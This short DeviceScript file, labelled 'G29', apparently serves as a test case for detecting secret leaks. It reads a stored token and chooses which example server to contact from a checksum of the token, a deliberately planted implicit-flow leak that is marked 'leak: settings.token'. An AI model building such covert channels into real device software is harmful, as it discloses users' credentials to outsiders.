// G29: goes to a second server if the sum of the token's characters can be divided by five.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

paired(async () => {
  const token = await readSetting("token", "");
  let sum = 0;
  for (let i = 0; i < token.length; i++) sum += token.charCodeAt(i);
  const response = await fetch(`https://${sum % 5 === 0 ? "eu" : "us"}.cloud.example/`); // leak: settings.token
  await response.close();
});
